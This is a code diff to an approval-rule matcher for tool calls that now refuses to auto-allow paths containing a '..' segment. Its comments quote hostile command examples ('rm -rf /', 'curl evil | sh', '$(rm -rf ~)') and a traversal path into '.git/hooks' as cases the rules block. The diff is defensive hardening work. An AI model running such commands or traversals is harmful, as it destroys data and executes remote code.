@@ -8,7 +8,8 @@
  * `npm test -- --watch` but not `npm test; rm -rf /`, `npm test && curl evil | sh` or
  * `npm test $(rm -rf ~)` (a person decides those), unless the glob writes that character itself.
  * A deny rule's wildcards match anything (`*--force*` denies `ls; git push --force`). A summary
- * that was cut (it ends with `…`) is never allowed by a rule: what was cut is unknown.
+ * that was cut (it ends with `…`) is never allowed by a rule: what was cut is unknown; nor is one
+ * with a `..` path segment unless the glob has one (`src/*` must not allow `src/../.git/hooks/x`).
  */
 export interface ApprovalRule {
   harness?: string
@@ -40,6 +41,9 @@ export function globRegExp(glob: string): RegExp {
 const SHELL_META = ';&|`$<>()\n\r…'
 const META_CLASS = `[^${SHELL_META.replace(/[\]\\^-]/g, '\\$&')}]`
 
+/** A `..` path segment: `{tool: Write, match: "src/*"}` must not allow `src/../.git/hooks/x`. */
+const PARENT_SEGMENT = /(^|[\/\s=])\.\.([\/\s]|$)/
+
 /** An allow rule's glob: like globRegExp, but a wildcard never matches a shell metacharacter. */
 export function allowGlobRegExp(glob: string): RegExp {
   const body = glob.replace(/[.+^${}()|[\]\\]/g, '\\$&').replace(/\*/g, `${META_CLASS}*`).replace(/\?/g, META_CLASS)
@@ -55,7 +59,7 @@ export function ruleDecision(rules: readonly (ApprovalRule | null)[], req: {harn
     if (r.harness && r.harness !== req.harness) continue
     if (r.tool !== '*' && r.tool !== req.tool) continue
     if (r.match !== undefined && !(r.decision === 'allow' ? allowGlobRegExp(r.match) : globRegExp(r.match)).test(req.summary)) continue
-    if (r.decision === 'allow' && req.summary.endsWith('…')) continue
+    if (r.decision === 'allow' && (req.summary.endsWith('…') || (PARENT_SEGMENT.test(req.summary) && !PARENT_SEGMENT.test(r.match ?? '')))) continue
     if (r.decision === 'deny') return {index: i, decision: 'deny'}
     allow ??= i
   }
